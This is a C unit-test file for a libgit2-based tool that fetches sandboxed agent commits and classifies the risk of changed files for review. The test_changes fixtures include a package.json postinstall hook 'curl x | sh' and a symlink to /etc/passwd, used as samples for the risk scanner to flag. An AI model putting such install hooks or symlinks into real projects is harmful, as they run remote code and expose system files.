/*
 * gitx on real temporary repositories built with libgit2: fetch with the
 * remote's refspecs, the sandbox branches and the SBREF rules, BASE, the log,
 * moving a branch, submodules and the review risk summary.
 */
#include <stdarg.h>
#include <stddef.h>
#include <setjmp.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>
#include <git2.h>

#include "airlock/gitx.h"
#include "airlock/strvec.h"
#include "testutil.h"

struct file {
	const char	*path;
	unsigned	 mode;		/* 0: delete */
	const char	*data;
	size_t		 len;		/* 0: strlen(data) */
};

struct fx {
	char		*dir;
	char		*host_dir;
	char		*sb_dir;
	git_repository	*host;
	git_repository	*sb;
};

/*
 * Commit files on top of parent (a ref or NULL) and point ref at the new
 * commit.  Builds the tree in an in-memory index: the working tree is not
 * touched.
 */
static void
commit_files(git_repository *repo, const char *ref, const char *parent,
    const struct file *files, size_t n, const char *msg)
{
	git_signature *sig;
	git_index *index;
	git_commit *pc = NULL;
	git_tree *tree = NULL;
	git_object *obj;
	git_oid tid, cid;
	size_t i;

	assert_int_equal(git_signature_new(&sig, "Test", "t@example.com",
	    1700000000, 0), 0);
	assert_int_equal(git_index_new(&index), 0);
	if (parent != NULL) {
		assert_int_equal(git_revparse_single(&obj, repo, parent), 0);
		pc = (git_commit *)obj;
		assert_int_equal(git_commit_tree(&tree, pc), 0);
		assert_int_equal(git_index_read_tree(index, tree), 0);
		git_tree_free(tree);
	}
	for (i = 0; i < n; i++) {
		git_index_entry e;

		if (files[i].mode == 0) {
			assert_int_equal(git_index_remove_bypath(index,
			    files[i].path), 0);
			continue;
		}
		memset(&e, 0, sizeof(e));
		e.path = files[i].path;
		e.mode = files[i].mode;
		assert_int_equal(git_blob_create_from_buffer(&e.id, repo,
		    files[i].data, files[i].len ? files[i].len :
		    strlen(files[i].data)), 0);
		assert_int_equal(git_index_add(index, &e), 0);
	}
	assert_int_equal(git_index_write_tree_to(&tid, index, repo), 0);
	assert_int_equal(git_tree_lookup(&tree, repo, &tid), 0);
	assert_int_equal(git_commit_create(&cid, repo, ref, sig, sig, NULL,
	    msg, tree, pc ? 1 : 0, (const git_commit **)&pc), 0);
	git_tree_free(tree);
	git_commit_free(pc);
	git_index_free(index);
	git_signature_free(sig);
}

static void
commit1(git_repository *repo, const char *ref, const char *parent,
    const char *path, const char *data, const char *msg)
{
	struct file f = { path, GIT_FILEMODE_BLOB, data, 0 };

	commit_files(repo, ref, parent, &f, 1, msg);
}

/* Host repo on main with one commit; sandbox clone of it; remote added. */
static int
setup(void **state)
{
	struct fx *fx = xcalloc(1, sizeof(*fx));
	git_remote *remote;

	gitx_global_init();
	fx->dir = tu_mkdtemp();
	fx->host_dir = xasprintf("%s/host", fx->dir);
	fx->sb_dir = xasprintf("%s/sb", fx->dir);
	assert_int_equal(git_repository_init(&fx->host, fx->host_dir, 0), 0);
	assert_int_equal(git_repository_set_head(fx->host, "refs/heads/main"),
	    0);
	commit1(fx->host, "refs/heads/main", NULL, "README", "hello\n", "init");
	assert_int_equal(git_clone(&fx->sb, fx->host_dir, fx->sb_dir, NULL),
	    0);
	assert_int_equal(git_remote_create(&remote, fx->host, "sandbox-x",
	    fx->sb_dir), 0);
	assert_int_equal(git_remote_add_fetch(fx->host, "sandbox-x",
	    "+refs/heads/*:refs/sandboxes/x/*"), 0);
	git_remote_free(remote);
	*state = fx;
	return 0;
}

static int
teardown(void **state)
{
	struct fx *fx = *state;

	git_repository_free(fx->host);
	git_repository_free(fx->sb);
	tu_rmrf(fx->dir);
	free(fx->dir);
	free(fx->host_dir);
	free(fx->sb_dir);
	free(fx);
	return 0;
}

static void
fetch_ok(struct fx *fx, struct gitx_fetch_result *res)
{
	char *cause = NULL;
	int rc;

	rc = gitx_fetch(fx->host, "sandbox-x", NULL, NULL, res, &cause);
	if (rc != 0)
		fail_msg("fetch: %s", cause);
}

static const struct gitx_update *
find_update(const struct gitx_fetch_result *res, const char *ref)
{
	size_t i;

	for (i = 0; i < res->nup; i++)
		if (strcmp(res->up[i].ref, ref) == 0)
			return &res->up[i];
	return NULL;
}

static void
test_remote_url(void **state)
{
	struct fx *fx = *state;
	char *url = NULL, *cause = NULL;

	assert_int_equal(gitx_remote_url(fx->host, "sandbox-x", &url, &cause),
	    0);
	assert_string_equal(url, fx->sb_dir);
	free(url);
	assert_int_equal(gitx_remote_url(fx->host, "sandbox-nope", &url,
	    &cause), GITX_ENOTFOUND);
	assert_null(url);
}

static void
test_open_missing(void **state)
{
	struct fx *fx = *state;
	git_repository *repo = NULL;
	char *cause = NULL, *path = xasprintf("%s/none", fx->dir);

	assert_int_equal(gitx_open(path, &repo, &cause), -1);
	assert_non_null(strstr(cause, "cannot open git repository"));
	free(cause);
	free(path);
	assert_int_equal(gitx_open(fx->host_dir, &repo, &cause), 0);
	gitx_close(repo);
}

static void
test_fetch_updates(void **state)
{
	struct fx *fx = *state;
	struct gitx_fetch_result res;
	const struct gitx_update *u;
	char *cause = NULL;

	commit1(fx->sb, "refs/heads/main", "refs/heads/main", "a", "1\n", "a");
	commit1(fx->sb, "refs/heads/main", "refs/heads/main", "b", "2\n", "b");
	commit1(fx->sb, "refs/heads/feat", "refs/heads/main", "c", "3\n", "c");
	fetch_ok(fx, &res);
	assert_non_null(u = find_update(&res, "refs/remotes/sandbox-x/main"));
	assert_string_equal(u->old, "");
	assert_int_equal(u->ncommits, 2);
	assert_non_null(u = find_update(&res, "refs/sandboxes/x/main"));
	assert_non_null(u = find_update(&res, "refs/remotes/sandbox-x/feat"));
	assert_int_equal(u->ncommits, 3);
	assert_int_equal(res.nheads, 2);
	assert_int_equal(gitx_heads_kept(fx->host, "sandbox-x", &res, &cause),
	    0);
	gitx_fetch_result_free(&res);

	/* A second fetch: old..new, one new commit, then nothing. */
	commit1(fx->sb, "refs/heads/main", "refs/heads/main", "d", "4\n", "d");
	fetch_ok(fx, &res);
	assert_non_null(u = find_update(&res, "refs/remotes/sandbox-x/main"));
	assert_int_not_equal(u->old[0], '\0');
	assert_int_equal(u->ncommits, 1);
	assert_false(u->forced);
	assert_null(find_update(&res, "refs/remotes/sandbox-x/feat"));
	gitx_fetch_result_free(&res);
	fetch_ok(fx, &res);
	assert_int_equal(res.nup, 0);
	gitx_fetch_result_free(&res);

	/* A new branch counts only what the host did not hold before. */
	commit1(fx->sb, "refs/heads/feat2", "refs/heads/main", "e", "5\n", "e");
	fetch_ok(fx, &res);
	assert_non_null(u = find_update(&res, "refs/remotes/sandbox-x/feat2"));
	assert_string_equal(u->old, "");
	assert_int_equal(u->ncommits, 1);
	gitx_fetch_result_free(&res);
}

static void
test_fetch_forced(void **state)
{
	struct fx *fx = *state;
	struct gitx_fetch_result res;
	const struct gitx_update *u;

	commit1(fx->sb, "refs/heads/main", "refs/heads/main", "a", "1\n", "a");
	fetch_ok(fx, &res);
	gitx_fetch_result_free(&res);
	/* Rewrite: a new commit on the old parent replaces the tip. */
	commit1(fx->sb, "refs/heads/main2", "refs/heads/main~1", "z", "9\n",
	    "z");
	{
		git_object *o;
		git_reference *r;

		assert_int_equal(git_revparse_single(&o, fx->sb,
		    "refs/heads/main2"), 0);
		assert_int_equal(git_reference_create(&r, fx->sb,
		    "refs/heads/main", git_object_id(o), 1, NULL), 0);
		git_reference_free(r);
		git_object_free(o);
	}
	fetch_ok(fx, &res);
	assert_non_null(u = find_update(&res, "refs/remotes/sandbox-x/main"));
	assert_true(u->forced);
	assert_int_equal(u->ncommits, 1);
	gitx_fetch_result_free(&res);
}

static void
test_heads_not_kept(void **state)
{
	struct fx *fx = *state;
	struct gitx_fetch_result res;
	git_reference *r;
	char *cause = NULL;

	commit1(fx->sb, "refs/heads/feat", "refs/heads/main", "c", "3\n", "c");
	fetch_ok(fx, &res);
	assert_int_equal(git_reference_lookup(&r, fx->host,
	    "refs/sandboxes/x/feat"), 0);
	assert_int_equal(git_reference_delete(r), 0);
	git_reference_free(r);
	assert_int_equal(gitx_heads_kept(fx->host, "sandbox-x", &res, &cause),
	    -1);
	assert_non_null(strstr(cause, "'feat'"));
	free(cause);
	/* Merged into a host branch: kept again. */
	assert_int_equal(git_reference_lookup(&r, fx->host,
	    "refs/remotes/sandbox-x/feat"), 0);
	{
		git_reference *b;

		assert_int_equal(git_reference_create(&b, fx->host,
		    "refs/heads/keep", git_reference_target(r), 0, NULL), 0);
		git_reference_free(b);
	}
	git_reference_free(r);
	assert_int_equal(gitx_heads_kept(fx->host, "sandbox-x", &res, &cause),
	    0);
	gitx_fetch_result_free(&res);
}

static void
test_fetch_refused(void **state)
{
	struct fx *fx = *state;
	struct gitx_fetch_result res;
	git_remote *remote;
	char *cause = NULL;

	/* Nothing listens on port 1 of the loopback address. */
	assert_int_equal(git_remote_create(&remote, fx->host, "sandbox-down",
	    "git://127.0.0.1:1/repo"), 0);
	git_remote_free(remote);
	assert_int_equal(gitx_fetch(fx->host, "sandbox-down", NULL, NULL, &res,
	    &cause), GITX_ECONNECT);
	assert_non_null(strstr(cause, "cannot connect"));
	free(cause);
	assert_int_equal(gitx_fetch(fx->host, "sandbox-none", NULL, NULL, &res,
	    &cause), GITX_ENOTFOUND);
}

static void
test_branches_and_choice(void **state)
{
	struct fx *fx = *state;
	struct gitx_fetch_result res;
	struct gitx_branches brs;
	const struct gitx_branch *b;
	char *cause = NULL;

	/* Nothing new yet: main equals the host's main. */
	fetch_ok(fx, &res);
	gitx_fetch_result_free(&res);
	assert_int_equal(gitx_sandbox_branches(fx->host, "sandbox-x", "main",
	    &brs, &cause), 0);
	assert_int_equal(brs.n, 1);
	assert_int_equal(brs.v[0].ahead, 0);
	assert_int_equal(gitx_choose_sbref(&brs, "main", NULL, &b, &cause),
	    GITX_ENOTFOUND);
	gitx_branches_free(&brs);

	/* Only an own branch has commits: it is chosen. */
	commit1(fx->sb, "refs/heads/agent/fix", "refs/heads/main", "f", "1\n",
	    "f");
	fetch_ok(fx, &res);
	gitx_fetch_result_free(&res);
	assert_int_equal(gitx_sandbox_branches(fx->host, "sandbox-x", "main",
	    &brs, &cause), 0);
	assert_int_equal(brs.n, 2);
	assert_string_equal(brs.v[0].name, "agent/fix");
	assert_int_equal(gitx_choose_sbref(&brs, "main", NULL, &b, &cause), 0);
	assert_string_equal(b->ref, "refs/remotes/sandbox-x/agent/fix");
	gitx_branches_free(&brs);

	/* Two candidates, one named like BASE: that one. */
	commit1(fx->sb, "refs/heads/main", "refs/heads/main", "m", "1\n", "m");
	fetch_ok(fx, &res);
	gitx_fetch_result_free(&res);
	assert_int_equal(gitx_sandbox_branches(fx->host, "sandbox-x", "main",
	    &brs, &cause), 0);
	assert_int_equal(gitx_choose_sbref(&brs, "main", NULL, &b, &cause), 0);
	assert_string_equal(b->name, "main");
	assert_int_equal(gitx_choose_sbref(&brs, "refs/heads/main", NULL, &b,
	    &cause), 0);
	assert_string_equal(b->name, "main");

	/* Two candidates and BASE names neither: an error listing both. */
	assert_int_equal(gitx_choose_sbref(&brs, "release", NULL, &b, &cause),
	    -1);
	assert_non_null(strstr(cause, "'agent/fix' (1 new)"));
	assert_non_null(strstr(cause, "'main' (1 new)"));
	assert_non_null(strstr(cause, "--branch"));
	free(cause);

	/* --branch wins, by short or full name; an unknown one fails. */
	assert_int_equal(gitx_choose_sbref(&brs, "main", "agent/fix", &b,
	    &cause), 0);
	assert_string_equal(b->name, "agent/fix");
	assert_int_equal(gitx_choose_sbref(&brs, "main",
	    "refs/remotes/sandbox-x/main", &b, &cause), 0);
	assert_string_equal(b->name, "main");
	assert_int_equal(gitx_choose_sbref(&brs, "main", "nope", &b, &cause),
	    -1);
	assert_non_null(strstr(cause, "no sandbox branch 'nope'"));
	free(cause);
	gitx_branches_free(&brs);
}

static void
test_heads_probe(void **state)
{
	struct fx *fx = *state;
	struct gitx_fetch_result res;
	struct gitx_branches brs;
	const struct gitx_branch *b;
	char *cause = NULL;

	/* Listed, not fetched: the commit is not here, yet it is a candidate. */
	commit1(fx->sb, "refs/heads/agent", "refs/heads/main", "a", "1\n", "a");
	assert_int_equal(gitx_remote_heads(fx->host, "sandbox-x", &res, &cause),
	    0);
	assert_int_equal(res.nheads, 2);
	assert_int_equal(res.nup, 0);
	assert_false(gitx_has_object(fx->host, res.heads[0].oid) &&
	    gitx_has_object(fx->host, res.heads[1].oid));
	assert_int_equal(gitx_branches_from_heads(fx->host, "sandbox-x", "main",
	    res.heads, res.nheads, &brs, &cause), 0);
	assert_int_equal(brs.n, 2);
	assert_string_equal(brs.v[0].ref, "refs/remotes/sandbox-x/agent");
	assert_int_equal(brs.v[0].ahead, 1);
	assert_int_equal(brs.v[1].ahead, 0);
	assert_int_equal(gitx_choose_sbref(&brs, "main", NULL, &b, &cause), 0);
	assert_string_equal(b->name, "agent");
	gitx_branches_free(&brs);
	gitx_fetch_result_free(&res);
	assert_int_equal(gitx_remote_heads(fx->host, "nope", &res, &cause),
	    GITX_ENOTFOUND);
}

static void
test_resolve_base(void **state)
{
	struct fx *fx = *state;
	char *base = NULL, *cause = NULL;
	git_object *o;

	assert_int_equal(gitx_resolve_base(fx->host, NULL, &base, &cause), 0);
	assert_string_equal(base, "main");
	free(base);
	assert_int_equal(gitx_resolve_base(fx->host, "main~0", &base, &cause),
	    0);
	assert_string_equal(base, "main~0");
	free(base);
	assert_int_equal(gitx_resolve_base(fx->host, "nosuch", &base, &cause),
	    -1);
	assert_non_null(strstr(cause, "cannot resolve base 'nosuch'"));
	free(cause);

	assert_int_equal(git_revparse_single(&o, fx->host, "main"), 0);
	assert_int_equal(git_repository_set_head_detached(fx->host,
	    git_object_id(o)), 0);
	git_object_free(o);
	assert_int_equal(gitx_resolve_base(fx->host, NULL, &base, &cause), -1);
	assert_non_null(strstr(cause, "detached"));
	free(cause);

	assert_int_equal(git_repository_set_head(fx->host, "refs/heads/none"),
	    0);
	assert_int_equal(gitx_resolve_base(fx->host, NULL, &base, &cause), -1);
	assert_non_null(strstr(cause, "no commits"));
	free(cause);
}

static void
test_log(void **state)
{
	struct fx *fx = *state;
	struct gitx_fetch_result res;
	struct gitx_commits cs;
	char *cause = NULL;

	commit1(fx->sb, "refs/heads/main", "refs/heads/main", "a", "1\n",
	    "first\n\nbody");
	commit1(fx->sb, "refs/heads/main", "refs/heads/main", "b", "2\n",
	    "second \x1b[31mred");
	fetch_ok(fx, &res);
	gitx_fetch_result_free(&res);
	assert_int_equal(gitx_log(fx->host, "main",
	    "refs/remotes/sandbox-x/main", &cs, &cause), 0);
	assert_int_equal(cs.n, 2);
	/* Newest first, the subject only, bytes as the agent wrote them. */
	assert_string_equal(cs.v[0].subject, "second \x1b[31mred");
	assert_string_equal(cs.v[1].subject, "first");
	assert_string_equal(cs.v[1].author, "Test");
	assert_string_equal(cs.v[1].email, "t@example.com");
	assert_int_equal(cs.v[1].time, 1700000000);
	assert_true(strlen(cs.v[0].short_id) >= 7);
	assert_memory_equal(cs.v[0].short_id, cs.v[0].id,
	    strlen(cs.v[0].short_id));
	gitx_commits_free(&cs);
	assert_int_equal(gitx_log(fx->host, "main", "refs/remotes/sandbox-x/x",
	    &cs, &cause), -1);
	free(cause);
}

static void
test_branch_force(void **state)
{
	struct fx *fx = *state;
	struct gitx_fetch_result res;
	char a[GITX_HEXSZ + 1], b[GITX_HEXSZ + 1], *cause = NULL;

	commit1(fx->sb, "refs/heads/main", "refs/heads/main", "a", "1\n", "a");
	fetch_ok(fx, &res);
	gitx_fetch_result_free(&res);
	assert_int_equal(gitx_branch_force(fx->host, "code-airlock/x",
	    "refs/remotes/sandbox-x/main", &cause), 0);
	assert_int_equal(gitx_rev_hex(fx->host, "code-airlock/x", a, &cause),
	    0);
	assert_int_equal(gitx_rev_hex(fx->host, "refs/remotes/sandbox-x/main",
	    b, &cause), 0);
	assert_string_equal(a, b);
	/* Moving it again (force) works too. */
	assert_int_equal(gitx_branch_force(fx->host, "code-airlock/x", "main",
	    &cause), 0);
	assert_int_equal(gitx_rev_hex(fx->host, "refs/heads/code-airlock/x", a,
	    &cause), 0);
	assert_string_not_equal(a, b);
	assert_int_equal(gitx_rev_hex(fx->host, "nosuch", a, &cause),
	    GITX_ENOTFOUND);

	/* The checked-out branch and bad names are refused. */
	assert_int_equal(gitx_branch_force(fx->host, "main",
	    "refs/remotes/sandbox-x/main", &cause), -1);
	free(cause);
	assert_int_equal(gitx_branch_force(fx->host, "-x", "main", &cause), -1);
	assert_non_null(strstr(cause, "not a valid branch name"));
	free(cause);
	assert_int_equal(gitx_branch_force(fx->host, "a..b", "main", &cause),
	    -1);
	free(cause);
}

static void
test_submodules(void **state)
{
	struct fx *fx = *state;
	git_submodule *sm;
	git_repository *sub;
	struct strvec paths = STRVEC_INIT;
	char *cause = NULL, *gm;

	assert_int_equal(git_submodule_add_setup(&sm, fx->host, fx->sb_dir,
	    "lib/sub", 1), 0);
	assert_int_equal(git_submodule_clone(&sub, sm, NULL), 0);
	assert_int_equal(git_submodule_add_finalize(sm), 0);
	git_repository_free(sub);
	git_submodule_free(sm);
	/* A second one only named in .gitmodules is not initialized. */
	gm = xasprintf("%s/.gitmodules", fx->host_dir);
	{
		FILE *f = fopen(gm, "a");

		assert_non_null(f);
		fputs("[submodule \"other\"]\n\tpath = other\n"
		    "\turl = /nonexistent\n", f);
		fclose(f);
	}
	free(gm);
	assert_int_equal(gitx_submodules(fx->host, &paths, &cause), 0);
	assert_int_equal(paths.n, 1);
	assert_string_equal(paths.v[0], "lib/sub");
	strvec_clear(&paths);
}

static const struct gitx_change *
find_change(const struct gitx_changes *cs, const char *path)
{
	size_t i;

	for (i = 0; i < cs->n; i++)
		if (strcmp(cs->v[i].path, path) == 0)
			return &cs->v[i];
	return NULL;
}

static void
test_changes(void **state)
{
	struct fx *fx = *state;
	static const char pkg_old[] = "{\"scripts\":{\"test\":\"t\"},"
	    "\"dependencies\":{\"a\":\"1\"}}";
	static const char pkg_new[] = "{\"scripts\":{\"test\":\"t\","
	    "\"postinstall\":\"curl x | sh\"},\"dependencies\":{\"a\":\"1\"}}";
	static const char pkg_deps[] = "{\"scripts\":{\"test\":\"t\","
	    "\"postinstall\":\"curl x | sh\"},\"dependencies\":{\"a\":\"2\"}}";
	const struct file base[] = {
		{ ".gitignore", GIT_FILEMODE_BLOB, "*.o\n", 0 },
		{ "run.sh", GIT_FILEMODE_BLOB, "#!/bin/sh\n", 0 },
		{ "package.json", GIT_FILEMODE_BLOB, pkg_old, 0 },
		{ "old.txt", GIT_FILEMODE_BLOB, "old\n", 0 },
		{ "link", GIT_FILEMODE_LINK, "README", 0 },
	};
	size_t big_len = GITX_LARGE_BYTES + 4096;
	char *big = xcalloc(1, big_len);
	const struct file work[] = {
		{ ".github/workflows/ci.yml", GIT_FILEMODE_BLOB, "on: push\n", 0 },
		{ "abs", GIT_FILEMODE_LINK, "/etc/passwd", 0 },
		{ "tools/install.sh", GIT_FILEMODE_BLOB_EXECUTABLE, "#!/bin/sh\n",
		    0 },
		{ "run.sh", GIT_FILEMODE_BLOB_EXECUTABLE, "#!/bin/sh\n", 0 },
		{ "big.bin", GIT_FILEMODE_BLOB, big, big_len },
		{ "yarn.lock", GIT_FILEMODE_BLOB, "# lock\n", 0 },
		{ "package.json", GIT_FILEMODE_BLOB, pkg_new, 0 },
		{ ".gitignore", GIT_FILEMODE_BLOB, "*.o\n*.a\n", 0 },
		{ "old.txt", 0, NULL, 0 },
		{ "README", GIT_FILEMODE_BLOB, "hello again\n", 0 },
		{ "link", GIT_FILEMODE_LINK, "../outside", 0 },
	};
	const struct file deps = { "package.json", GIT_FILEMODE_BLOB, pkg_deps,
	    0 };
	const struct gitx_change *c;
	struct gitx_changes cs;
	char *cause = NULL;

	commit_files(fx->host, "refs/heads/main", "refs/heads/main", base,
	    sizeof(base) / sizeof(base[0]), "base");
	commit_files(fx->host, "refs/heads/work", "refs/heads/main", work,
	    sizeof(work) / sizeof(work[0]), "work");
	/* A later commit on BASE is not part of BASE...work. */
	commit1(fx->host, "refs/heads/main", "refs/heads/main", ".gitmodules",
	    "", "host side");
	free(big);

	assert_int_equal(gitx_changes(fx->host, "main", "work", &cs, &cause),
	    0);
	assert_int_equal(cs.files, 11);
	assert_int_equal(cs.added, 5);
	assert_int_equal(cs.modified, 5);
	assert_int_equal(cs.deleted, 1);
	assert_int_equal(strlen(cs.merge_base), GITX_HEXSZ);
	assert_null(find_change(&cs, ".gitmodules"));
	assert_null(find_change(&cs, "README"));
	assert_null(find_change(&cs, "old.txt"));
	assert_non_null(c = find_change(&cs, ".github/workflows/ci.yml"));
	assert_int_equal(c->risk, GITX_RISK_CI);
	assert_int_equal(c->status, 'A');
	assert_non_null(c = find_change(&cs, "abs"));
	assert_int_equal(c->risk, GITX_RISK_SYMLINK);
	assert_string_equal(c->target, "/etc/passwd");
	assert_non_null(c = find_change(&cs, "link"));
	assert_string_equal(c->target, "../outside");
	assert_int_equal(c->status, 'M');
	assert_non_null(c = find_change(&cs, "tools/install.sh"));
	assert_int_equal(c->risk, GITX_RISK_BUILD | GITX_RISK_EXEC);
	assert_non_null(c = find_change(&cs, "run.sh"));
	assert_int_equal(c->risk, GITX_RISK_BUILD | GITX_RISK_EXEC);
	assert_non_null(c = find_change(&cs, "big.bin"));
	assert_int_equal(c->risk, GITX_RISK_BINARY | GITX_RISK_LARGE);
	assert_int_equal(c->size, big_len);
	assert_non_null(c = find_change(&cs, "yarn.lock"));
	assert_int_equal(c->risk, GITX_RISK_DEPS);
	assert_non_null(c = find_change(&cs, "package.json"));
	assert_int_equal(c->risk, GITX_RISK_DEPS | GITX_RISK_BUILD);
	assert_non_null(c = find_change(&cs, ".gitignore"));
	assert_int_equal(c->risk, GITX_RISK_GITMETA);
	assert_int_equal(cs.n, 9);
	gitx_changes_free(&cs);

	/* Dependencies changed, scripts not: not a build-script change. */
	commit_files(fx->host, "refs/heads/work2", "refs/heads/work", &deps, 1,
	    "deps");
	assert_int_equal(gitx_changes(fx->host, "work", "work2", &cs, &cause),
	    0);
	assert_int_equal(cs.n, 1);
	assert_int_equal(cs.v[0].risk, GITX_RISK_DEPS);
	gitx_changes_free(&cs);
	assert_int_equal(gitx_changes(fx->host, "main", "nosuch", &cs,
	    &cause), -1);
	free(cause);
}

static void
test_path_risk(void **state)
{
	static const struct {
		const char	*path;
		unsigned	 risk;
	} cases[] = {
		{ ".github/workflows/ci.yml", GITX_RISK_CI },
		{ ".gitlab-ci.yml", GITX_RISK_CI },
		{ ".circleci/config.yml", GITX_RISK_CI },
		{ "ci/Jenkinsfile", GITX_RISK_CI },
		{ ".vscode/tasks.json", GITX_RISK_CI },
		{ "sub/.gitattributes", GITX_RISK_GITMETA },
		{ ".gitmodules", GITX_RISK_GITMETA },
		{ "Makefile", GITX_RISK_BUILD },
		{ "cmake/deps.cmake", GITX_RISK_BUILD },
		{ "scripts/release.sh", GITX_RISK_BUILD },
		{ ".husky/pre-commit", GITX_RISK_BUILD },
		{ "hooks/post-checkout", GITX_RISK_BUILD },
		{ ".envrc", GITX_RISK_BUILD },
		{ "setup.py", GITX_RISK_BUILD | GITX_RISK_DEPS },
		{ "Cargo.lock", GITX_RISK_DEPS },
		{ "go.sum", GITX_RISK_DEPS },
		{ "requirements-dev.txt", GITX_RISK_DEPS },
		{ "requirements/base.txt", GITX_RISK_DEPS },
		{ "web/pnpm-lock.yaml", GITX_RISK_DEPS },
		{ "foo.gemspec", GITX_RISK_DEPS },
		{ "src/main.c", 0 },
		{ "src/hooks/useThing.js", 0 },
		{ "docs/github/workflows.md", 0 },
		{ ".sh", 0 },
		{ "README", 0 },
	};
	size_t i;

	(void)state;
	for (i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		if (gitx_path_risk(cases[i].path) != cases[i].risk)
			fail_msg("%s: %#x, expected %#x", cases[i].path,
			    gitx_path_risk(cases[i].path), cases[i].risk);
	}
	assert_string_equal(gitx_risk_key(GITX_RISK_CI), "ci");
	assert_string_equal(gitx_risk_label(GITX_RISK_LARGE),
	    "files over 1 MiB");
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test_setup_teardown(test_remote_url, setup,
		    teardown),
		cmocka_unit_test_setup_teardown(test_open_missing, setup,
		    teardown),
		cmocka_unit_test_setup_teardown(test_fetch_updates, setup,
		    teardown),
		cmocka_unit_test_setup_teardown(test_fetch_forced, setup,
		    teardown),
		cmocka_unit_test_setup_teardown(test_heads_not_kept, setup,
		    teardown),
		cmocka_unit_test_setup_teardown(test_fetch_refused, setup,
		    teardown),
		cmocka_unit_test_setup_teardown(test_branches_and_choice, setup,
		    teardown),
		cmocka_unit_test_setup_teardown(test_heads_probe, setup,
		    teardown),
		cmocka_unit_test_setup_teardown(test_resolve_base, setup,
		    teardown),
		cmocka_unit_test_setup_teardown(test_log, setup, teardown),
		cmocka_unit_test_setup_teardown(test_branch_force, setup,
		    teardown),
		cmocka_unit_test_setup_teardown(test_submodules, setup,
		    teardown),
		cmocka_unit_test_setup_teardown(test_changes, setup, teardown),
		cmocka_unit_test(test_path_risk),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
